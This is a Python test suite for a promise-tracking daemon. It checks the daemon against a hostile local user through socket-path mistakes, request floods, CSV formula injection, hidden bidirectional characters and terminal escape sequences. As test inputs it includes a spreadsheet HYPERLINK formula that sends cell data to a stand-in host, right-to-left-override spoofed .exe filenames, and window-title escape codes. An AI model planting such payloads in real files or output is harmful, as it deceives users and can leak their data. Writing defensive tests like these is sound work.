# SPDX-License-Identifier: MIT
"""Trust under a hostile colleague: what a mistake in the configuration,
a stranger on the socket or a crafted file can and cannot do."""

import csv
import io
import json
import os
import pwd
import subprocess
import time

from harness import PROMISE, PROMISED, Daemon, check, run, wait_for

PEOPLE = ("[person daemon]\nmanager = bin\n"
          "[person bin]\ntimezone = UTC\n")
# Debian's system users, none of them anyone's manager: strangers
STRANGERS = ("nobody", "sync", "games", "man", "lp", "mail", "news", "uucp",
             "proxy", "www-data", "backup", "list", "irc")

# pipelines N requests on one connection and counts the answers
FLOOD = """
import json, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
req = json.loads(sys.argv[2])
n = int(sys.argv[3])
line = (json.dumps(req) + "\\n").encode()
s.sendall(line * n)
buf, got, errs = b"", 0, {}
while got < n:
    chunk = s.recv(65536)
    if not chunk:
        break
    buf += chunk
    while b"\\n" in buf:
        one, buf = buf.split(b"\\n", 1)
        r = json.loads(one)
        got += 1
        if not r["ok"]:
            k = r["error"]["code"]
            errs[k] = errs.get(k, 0) + 1
print(json.dumps({"answered": got, "errors": errs}))
"""


def as_user(d, user, *args, expect=0):
    pw = pwd.getpwnam(user)
    r = subprocess.run(["setpriv", f"--reuid={pw.pw_uid}",
                        f"--regid={pw.pw_gid}", "--clear-groups", PROMISE,
                        "--socket", d.sock, *args], capture_output=True,
                       text=True, timeout=30)
    if expect is not None and r.returncode != expect:
        raise AssertionError(f"{user}: promise {' '.join(args)}: exit "
                             f"{r.returncode}, wanted {expect}: {r.stderr}")
    return r


def flood(d, user, req, n):
    pw = pwd.getpwnam(user)
    r = subprocess.run(["setpriv", f"--reuid={pw.pw_uid}",
                        f"--regid={pw.pw_gid}", "--clear-groups", "python3",
                        "-c", FLOOD, d.sock, json.dumps(req), str(n)],
                       capture_output=True, text=True, timeout=120)
    check(r.returncode == 0, r.stderr)
    return json.loads(r.stdout)


def open_up(d):
    os.chmod(d.dir, 0o711)
    os.chmod(d.sock, 0o666)


def start_refused(d, words):
    """Starts promised on d's config; asserts it exits non-zero naming
    words; returns its stderr."""
    r = subprocess.run([PROMISED, "-c", d.conf], capture_output=True,
                       text=True, timeout=30, stdin=subprocess.DEVNULL)
    check(r.returncode != 0, f"promised started: {r.stderr}")
    for w in words:
        check(w in r.stderr, f"{w!r} not in {r.stderr!r}")
    return r.stderr


def test_socket_path_never_deletes_a_file():
    d = Daemon("sockfile")
    try:
        # a regular file where the socket should be: left as it is
        with open(d.sock, "w") as f:
            f.write("precious\n")
        start_refused(d, [d.sock, "not a socket"])
        with open(d.sock) as f:
            check(f.read() == "precious\n", "the file was changed")
        os.unlink(d.sock)
        # a directory too
        os.mkdir(d.sock)
        start_refused(d, ["not a socket"])
        check(os.path.isdir(d.sock), "the directory is gone")
        os.rmdir(d.sock)
        # a stale socket, left by a kill -9, is still replaced
        d.start()
        d.client("add", "one", "--due", "in 1d")
        d.kill9()
        check(os.path.exists(d.sock), "no stale socket left")
        d.start()
        check(len(d.json("list")["promises"]) == 1, "promise lost")
        # a file put where the socket was while it ran stays at the stop
        os.unlink(d.sock)
        with open(d.sock, "w") as f:
            f.write("someone else's\n")
        d.stop()
        with open(d.sock) as f:
            check(f.read() == "someone else's\n", "removed at the stop")
    finally:
        d.cleanup()


def test_socket_on_the_database_refused():
    d = Daemon("sockdb")
    try:
        d.start()
        d.client("add", "keep me", "--due", "in 1d")
        d.stop()
        size = os.path.getsize(d.db)
        # the typo of the issue: socket = the database's path
        d.write_conf()
        with open(d.conf) as f:
            text = f.read()
        with open(d.conf, "w") as f:
            f.write(text.replace(f"socket = {d.sock}", f"socket = {d.db}"))
        r = subprocess.run([PROMISED, "--check-config", "-c", d.conf],
                           capture_output=True, text=True, timeout=10)
        check(r.returncode == 78, f"exit {r.returncode}: {r.stderr}")
        check(f"{d.conf}:2:" in r.stderr and "database" in r.stderr,
              r.stderr)
        start_refused(d, ["database"])
        check(os.path.getsize(d.db) == size, "the database was touched")
    finally:
        d.cleanup()


def test_socket_on_the_delivery_log_refused():
    d = Daemon("socklog")
    try:
        with open(d.conf) as f:
            text = f.read()
        # spelled differently, the same file
        other = os.path.join(d.dir, ".", "deliveries.log")
        with open(d.conf, "w") as f:
            f.write(text.replace(f"socket = {d.sock}", f"socket = {other}"))
        r = subprocess.run([PROMISED, "--check-config", "-c", d.conf],
                           capture_output=True, text=True, timeout=10)
        check(r.returncode == 78, f"exit {r.returncode}: {r.stderr}")
        check("delivery log" in r.stderr, r.stderr)
    finally:
        d.cleanup()


def test_refusals_are_no_write_channel():
    d = Daemon("refusals", conf_extra=PEOPLE)
    try:
        d.start()
        open_up(d)
        due = int(time.time()) + 3600
        r = as_user(d, "daemon", "add", "Send Acme the quote", "--due",
                    f"@{due}", "--nudge", "none", "--json")
        pid = json.loads(r.stdout)["promise"]["id"]
        # the owner's own word, which notices must carry
        soon = int(time.time()) + 20
        as_user(d, "daemon", "snooze", str(pid), "--due", f"@{soon}",
                "--reason", "customer asked for Monday")
        n = 3000
        got = flood(d, "nobody", {"v": 1, "op": "done", "id": pid}, n)
        check(got["answered"] == n, got)
        check(sum(got["errors"].values()) == n, got)
        # more strangers than a notice carries events
        for user in STRANGERS[1:]:
            as_user(d, user, "cancel", str(pid), "--reason", "x", expect=1)
        shown = d.json("show", str(pid))
        check(shown["promise"]["state"] == "open", shown["promise"])
        refused = [e for e in shown["events"] if e["kind"] == "refused"]
        check(len(refused) == len(STRANGERS), f"{len(refused)} events")
        mine = [e for e in refused if e["actor"] == "nobody"]
        check(len(mine) == 1 and mine[0]["detail"]["count"] == n, mine)
        check(mine[0]["detail"]["op"] == "done", mine)
        text = d.client("show", str(pid)).stdout
        check(f"{n} times" in text, text)
        check(len(text.splitlines()) < 40, f"{len(text.splitlines())} lines")
        # the due notice carries the owner's snooze, not only refusals
        notice = wait_for(lambda: [x for x in d.deliveries()
                                   if x.get("event") == "promise.due"],
                          timeout=60, what="the due notice")[0]
        kinds = [e["kind"] for e in notice["history"]]
        check("snoozed" in kinds and "created" in kinds, kinds)
        snooze = [e for e in notice["history"] if e["kind"] == "snoozed"]
        check(snooze[0]["detail"]["reason"] == "customer asked for Monday",
              snooze)
        ats = [e["at"] for e in notice["history"]]
        check(ats == sorted(ats), f"history out of order: {ats}")
        d.stop()
    finally:
        d.cleanup()


def test_export_after_out_of_range():
    d = Daemon("export").start()
    try:
        d.client("add", "one", "--due", "in 1d")
        for after in (-(2 ** 63), -1):
            r = d.call({"v": 1, "op": "export", "after": after})
            check(not r["ok"] and r["error"]["code"] == "invalid", r)
            check("after" in r["error"]["message"], r)
        r = d.call({"v": 1, "op": "export", "after": 2 ** 63 - 1})
        check(r["ok"] and r["promises"] == [] and r["next"] is None, r)
        r = d.call({"v": 1, "op": "export"})
        check(r["ok"] and len(r["promises"]) == 1, r)
        d.stop()
    finally:
        d.cleanup()


def test_database_gone_is_not_recreated():
    d = Daemon("dbgone")
    try:
        d.start()
        d.client("add", "acknowledged", "--due", "in 1d")
        d.stop()
        check(os.path.exists(os.path.join(d.dir, ".promised.db.created")),
              "no marker")
        # rm promised.db*
        for name in os.listdir(d.dir):
            if name.startswith("promised.db"):
                os.unlink(os.path.join(d.dir, name))
        err = start_refused(d, ["missing", "--init", d.db])
        check(len(err.strip().splitlines()) == 1, err)
        check(not os.path.exists(d.db), "an empty database was made")
        # told to, it begins an empty one
        d.start(args=["--init"])
        check(d.json("list")["promises"] == [], "not empty")
        d.stop()
        # and from then on starts as usual
        d.start()
        d.stop()
    finally:
        d.cleanup()


def test_read_only_database_fails_at_start():
    d = Daemon("dbro")
    try:
        pw = pwd.getpwnam("nobody")
        os.chown(d.dir, pw.pw_uid, pw.pw_gid)
        os.chown(d.conf, pw.pw_uid, pw.pw_gid)
        d.start(prefix=["setpriv", f"--reuid={pw.pw_uid}",
                        f"--regid={pw.pw_gid}", "--clear-groups"])
        d.client("add", "one", "--due", "in 1d")
        d.stop()
        os.chmod(d.db, 0o400)
        r = subprocess.run(["setpriv", f"--reuid={pw.pw_uid}",
                            f"--regid={pw.pw_gid}", "--clear-groups",
                            PROMISED, "-c", d.conf], capture_output=True,
                           text=True, timeout=30, stdin=subprocess.DEVNULL)
        check(r.returncode != 0, f"started: {r.stderr}")
        check("read-only" in r.stderr or "cannot be written" in r.stderr,
              r.stderr)
    finally:
        d.cleanup()


def test_list_search_of_blanks_is_invalid():
    d = Daemon("blanks").start()
    try:
        d.client("add", "one", "--due", "in 1d", "--for", "Acme")
        for text in ("\t", " \t ", "\t\t"):
            for flag in ("--grep", "--for"):
                r = d.client("list", flag, text, expect=1)
                check("has no words" in r.stderr, r.stderr)
                check("fts5" not in r.stderr, r.stderr)
        r = d.call({"v": 1, "op": "list", "grep": "\u000b"})
        check(r["error"]["code"] == "invalid", r)
        r = d.json("list", "--grep", "one\t")
        check(len(r["promises"]) == 1, r)
        d.stop()
    finally:
        d.cleanup()


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"hi\")", "+1+1", "-2",
            "@SUM(A1)", "'quoted", "plain, with a comma"]


def test_csv_export_neutralises_formulas():
    d = Daemon("csvout").start()
    e = Daemon("csvin").start()
    try:
        due = int(time.time()) + 86400
        for t in FORMULAS:
            r = d.call({"v": 1, "op": "add", "title": t, "for": t,
                        "due_at": due})
            check(r["ok"], r)
        out = d.client("export", "--csv").stdout
        rows = list(csv.reader(io.StringIO(out)))
        head = rows[0]
        for row in rows[1:]:
            for name in ("title", "for"):
                cell = row[head.index(name)]
                check(cell[0] not in "=+-@\t\r", f"{name} cell {cell!r}")
        titles = sorted(r[head.index("title")] for r in rows[1:])
        check("'=HYPERLINK(" in "".join(titles), titles)
        # what export writes, import reads back as it was
        e.client("import", "-", input=out)
        got = e.json("list")["promises"]
        check(sorted(p["title"] for p in got) == sorted(FORMULAS),
              [p["title"] for p in got])
        check(sorted(p["for"] for p in got) == sorted(FORMULAS), got)
        d.stop()
        e.stop()
    finally:
        d.cleanup()
        e.cleanup()


RLO = "\u202e"
HIDDEN = ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u2060"]


def test_invisible_characters_refused():
    d = Daemon("bidi").start()
    try:
        due = int(time.time()) + 86400
        pid = d.json("add", "real", "--due", f"@{due}")["promise"]["id"]
        for ch in HIDDEN:
            cases = [
                ("title", {"op": "add", "title": f"pay{ch}cod.exe",
                           "due_at": due}),
                ("for", {"op": "add", "title": "t", "for": f"A{ch}cme",
                         "due_at": due}),
                ("note", {"op": "add", "title": "t", "note": f"n{ch}",
                          "due_at": due}),
                ("reason", {"op": "snooze", "id": pid, "due_at": due + 60,
                            "reason": f"r{ch}"}),
                ("reason", {"op": "cancel", "id": pid, "reason": f"r{ch}"}),
                ("note", {"op": "done", "id": pid, "note": f"n{ch}"}),
            ]
            for field, req in cases:
                req["v"] = 1
                r = d.call(req)
                check(not r["ok"] and r["error"]["code"] == "invalid",
                      f"{field} with U+{ord(ch):04X}: {r}")
                check(f"field '{field}'" in r["error"]["message"], r)
                check(f"U+{ord(ch):04X}" in r["error"]["message"], r)
        # the client says so, without printing the character itself
        r = d.client("add", f"invoice{RLO}fdp.exe", "--due", "in 1d",
                     expect=1)
        check("title" in r.stderr and RLO not in r.stderr, r.stderr)
        check("U+202E" in r.stderr, r.stderr)
        shown = d.json("show", str(pid))
        check(shown["promise"]["state"] == "open", shown["promise"])
        check(len(d.json("list")["promises"]) == 1, "something was added")
        d.stop()
    finally:
        d.cleanup()


def test_client_quotes_what_it_prints():
    d = Daemon("quote").start()
    try:
        esc = "\x1b]0;owned\x07\x1b[2J"
        # a daemon message that echoes what was sent
        r = d.client("list", "--state", f"x{esc}", expect=None)
        check(r.returncode != 0, r)
        check("\x1b" not in r.stderr and "\x07" not in r.stderr,
              repr(r.stderr))
        check("\\x1b" in r.stderr, repr(r.stderr))
        # an import file's line comes back in the error, quoted
        bad = json.dumps({"title": "x", "kind": f"k{esc}"}) + "\n"
        bad += json.dumps({"title": "x", "due": "in 1d",
                           "owner": f"b{esc}"}) + "\n"
        r = d.client("import", "-", input=bad, expect=None)
        check(r.returncode != 0, r)
        check("\x1b" not in r.stderr and "\x07" not in r.stderr,
              repr(r.stderr))
        check("line 1" in r.stderr and "line 2" in r.stderr, r.stderr)
        check("\\x1b]0;owned\\x07" in r.stderr, repr(r.stderr))
        r = d.client("import", "-", input=f"title,due{esc}\nx,in 1d\n",
                     expect=None)
        check(r.returncode != 0 and "unknown column" in r.stderr, r.stderr)
        check("\x1b" not in r.stderr, repr(r.stderr))
        # text stored before invisible characters were refused is shown
        # neutralised in list and show
        pid = d.json("add", "old title", "--due", "in 1d",
                     "--for", "Acme")["promise"]["id"]
        d.stop()
        import sqlite3
        db = sqlite3.connect(d.db)
        db.execute("UPDATE promises SET title = ?, for_whom = ? "
                   "WHERE id = ?", (f"pay{RLO}cod.exe",
                                    f"A\u200bcme\u2066", pid))
        db.commit()
        db.close()
        d.start()
        for args in (["list"], ["show", str(pid)]):
            out = d.client(*args).stdout
            for ch in HIDDEN:
                check(ch not in out, f"{args}: U+{ord(ch):04X} in {out!r}")
            check("pay?cod.exe" in out, out)
        d.stop()
    finally:
        d.cleanup()


def raw_as(d, user, reqs):
    """Sends reqs on one connection as user; their replies."""
    pw = pwd.getpwnam(user)
    script = ("import json, socket, sys\n"
              "s = socket.socket(socket.AF_UNIX)\n"
              "s.connect(sys.argv[1])\n"
              "reqs = json.loads(sys.argv[2])\n"
              "f = s.makefile('rwb')\n"
              "out = []\n"
              "for q in reqs:\n"
              "    f.write((json.dumps(q) + '\\n').encode()); f.flush()\n"
              "    out.append(json.loads(f.readline()))\n"
              "print(json.dumps(out))\n")
    r = subprocess.run(["setpriv", f"--reuid={pw.pw_uid}",
                        f"--regid={pw.pw_gid}", "--clear-groups", "python3",
                        "-c", script, d.sock, json.dumps(reqs)],
                       capture_output=True, text=True, timeout=60)
    check(r.returncode == 0, r.stderr)
    return json.loads(r.stdout)


def test_strangers_learn_nothing():
    d = Daemon("strangers", conf_extra=PEOPLE)
    try:
        d.start()
        open_up(d)
        due = int(time.time()) + 2
        r = as_user(d, "daemon", "add", "Call Acme", "--due", f"@{due}",
                    "--nudge", "none", "--json")
        pid = json.loads(r.stdout)["promise"]["id"]
        as_user(d, "daemon", "add", "Second", "--due", "in 1d")
        delivery = wait_for(lambda: [x for x in d.deliveries()
                                     if x.get("event") == "promise.due"],
                            timeout=30, what="the due notice")[0]["delivery"]
        missing = pid + 1000
        ops = [{"op": "get"}, {"op": "done"}, {"op": "explain"},
               {"op": "ack"}, {"op": "cancel", "reason": "x"},
               {"op": "snooze", "due_at": due + 86400, "reason": "x"}]
        reqs = []
        for op in ops:
            for i in (pid, missing):
                reqs.append(dict(op, v=1, id=i))
        got = raw_as(d, "nobody", reqs)
        for k in range(0, len(got), 2):
            real, none = got[k], got[k + 1]
            check(not real["ok"] and real["error"]["code"] == "not_found",
                  real)
            check(real["error"]["message"] ==
                  none["error"]["message"].replace(str(missing), str(pid)),
                  f"{real} differs from {none}")
            check("daemon" not in real["error"]["message"], real)
        # a delivery of it: as unknown as one never made
        got = raw_as(d, "nobody", [
            {"v": 1, "op": "retry", "delivery": delivery},
            {"v": 1, "op": "retry", "delivery": "0" * 32}])
        check(got[0]["error"]["code"] == "not_found", got)
        check(got[0]["error"]["message"] == f"no delivery {delivery}", got)
        check(got[1]["error"]["message"] == f"no delivery {'0' * 32}", got)
        # refusals are still the owner's to see
        shown = d.json("show", str(pid))
        check(any(e["kind"] == "refused" and e["actor"] == "nobody"
                  for e in shown["events"]), shown["events"])
        # status: a stranger's own figures, nothing of the others'
        st = raw_as(d, "nobody", [{"v": 1, "op": "status"}])[0]
        check(st["ok"] and st["scope"] == "own", st)
        check(st["open"] == 0 and st["overdue"] == 0, st)
        check(st["next_due"] is None and "deliveries" not in st, st)
        st = raw_as(d, "daemon", [{"v": 1, "op": "status"}])[0]
        check(st["open"] == 2 and st["overdue"] == 1, st)
        check(st["next_due"] is not None and "deliveries" not in st, st)
        out = as_user(d, "daemon", "status").stdout
        check("(yours)" in out and "deliveries" not in out, out)
        st = d.json("status")
        check(st["scope"] == "all" and "deliveries" in st, st)
        # metrics: admins only
        r = as_user(d, "nobody", "metrics", expect=1)
        check("only admins" in r.stderr, r.stderr)
        check("promised_" in d.client("metrics").stdout, "root's metrics")
        d.stop()
    finally:
        d.cleanup()


def test_email_subject_leaves_out_invisible_characters():
    from smtpsink import SmtpSink
    me = pwd.getpwuid(os.getuid()).pw_name
    with SmtpSink().start() as sink:
        d = Daemon("bidimail", conf_extra=(
            f"[smtp]\nurl = {sink.url}\nfrom = promised@example.org\n"
            f"starttls = off\n[person {me}]\nemail = me@example.com\n"))
        try:
            d.start()
            pid = d.json("add", "placeholder", "--due", "in 1h", "--nudge",
                         "none")["promise"]["id"]
            d.stop()
            # text stored before such characters were refused
            import sqlite3
            db = sqlite3.connect(d.db)
            db.execute("UPDATE promises SET title = ?, due_at = ? "
                       "WHERE id = ?", (f"Pay{RLO}gpj.exe now\u200b",
                                        int(time.time()) + 3, pid))
            db.commit()
            db.close()
            d.start()
            m = sink.wait_for_messages(1, timeout=30)[0]
            subject = m["message"]["Subject"]
            for ch in HIDDEN:
                check(ch not in subject, f"U+{ord(ch):04X} in {subject!r}")
            check("Paygpj.exe now" in subject, subject)
            d.stop()
        finally:
            d.cleanup()


if __name__ == "__main__":
    run([test_email_subject_leaves_out_invisible_characters,
test_strangers_learn_nothing,
test_invisible_characters_refused,
         test_client_quotes_what_it_prints,
test_list_search_of_blanks_is_invalid,
         test_csv_export_neutralises_formulas,
test_export_after_out_of_range,
         test_database_gone_is_not_recreated,
         test_read_only_database_fails_at_start,
test_refusals_are_no_write_channel,
test_socket_path_never_deletes_a_file,
         test_socket_on_the_database_refused,
         test_socket_on_the_delivery_log_refused])
